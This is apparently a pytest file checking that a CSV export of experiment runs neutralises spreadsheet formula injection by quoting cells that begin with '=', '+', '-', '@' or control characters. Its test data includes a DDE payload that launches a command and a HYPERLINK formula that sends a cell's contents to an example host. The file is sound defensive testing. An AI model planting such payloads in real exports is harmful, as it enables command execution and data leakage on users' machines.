"""collect.py: nothing in the table of a sweep is a formula to a spreadsheet."""

import csv
import json

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_notebook, new_output

from gan_helpers import tables
from gan_helpers.lesson import VALUES
from gan_notebooks.collect import collect

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    '=HYPERLINK("http://example.com/?"&A1,"press")',
    "=cmd|' /C calc'!A0",
    "-",
    "--1",
    "=",
    "+nine",
    "\uff1d1+1",  # full-width
    "\uff20SUM(1)",
]


def collected(folder, name="run", *, parameters=None, scores=None, error=None):
    """The header (list) and the cells (list) of a table of one run, as a spreadsheet gets them."""
    status = "failed" if error else "done"
    content = {"run": name, "status": status, "seconds": 1.5, "error": error}
    content |= {"parameters": parameters or {}}
    (folder / "run.json").write_text(json.dumps(content), encoding="utf8")
    values = {"claims": [], "scores": scores or {}}
    output = new_output("display_data", {VALUES: values})
    cells = [new_code_cell("", outputs=[output])]
    nbformat.write(new_notebook(cells=cells), folder / "run.ipynb")
    collect(folder, folder / "runs.csv")
    with open(folder / "runs.csv", encoding="utf8", newline="") as file:
        header, row = csv.reader(file)
    return header, row


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("\t=1", "'\t'=1"),
        ("\n=1", "'\n=1"),
        ("\r=1", "'\n=1"),
        ("a\r=1", "a\n=1"),  # without quotes a new row would begin there
        ("a\r\n=1", "a\n=1"),
        ("a;=1;b", "a;'=1;b"),
        ("a\t@f()", "a\t'@f()"),
        ("a, =1", "a, =1"),  # the csv module puts quotes round it
        ("first; -second", "first; -second"),
    ],
)
def test_no_formula_begins_in_the_middle(tmp_path, text, cell):
    header, row = collected(tmp_path, error=text)
    assert dict(zip(header, row, strict=True))["error"] == cell


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_is_a_formula(tmp_path, text):
    header, row = collected(
        tmp_path,
        text,
        parameters={"NAME": text, f"{text} P": 1},
        scores={"kind": text, f"{text} S": 2, "parts": {text: text}, text: {"x": 3}},
    )
    texts = dict(zip(header, row, strict=True))
    assert texts["run"] == texts["NAME"] == texts["kind"] == f"'{text}"
    assert texts[f"'{text} P"] == "1" and texts[f"'{text} S"] == "2"
    assert texts[f"parts {text}"] == f"'{text}" and texts[f"'{text} x"] == "3"
    assert not [cell for cell in [*header, *row] if cell.startswith(tuple("=+-@\t\r\n"))]


def test_an_error_is_no_formula_either(tmp_path):
    header, row = collected(tmp_path, error="=1+1")
    assert dict(zip(header, row, strict=True))["error"] == "'=1+1"


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (-1.5, "-1.5"),
        (-3, "-3"),
        (-1e-300, "-1e-300"),
        ("-1.5", "-1.5"),
        ("-inf", "-inf"),  # how a kernel sends it
        ("+2", "+2"),
        (True, "True"),
        ([-1, -2.5], "[-1 -2.5]"),
        (None, ""),
        ("a=1", "a=1"),
        ("'=1", "'=1"),
        ("", ""),
        ("minus one", "minus one"),
    ],
)
def test_other_values_are_left_alone(tmp_path, value, cell):
    header, row = collected(tmp_path, scores={"x": value})
    assert dict(zip(header, row, strict=True))["x"] == cell


def test_the_rows_are_returned_as_they_are_and_numbers_read_back(tmp_path):
    collected(tmp_path, scores={"x": "=1", "y": -2.5, "z": "-inf"})
    (row,) = collect(tmp_path, tmp_path / "runs.csv")
    assert row["x"] == "=1"
    (read,) = tables.read("runs", tmp_path)
    assert read["x"] == "'=1" and read["y"] == -2.5 and read["z"] == float("-inf")
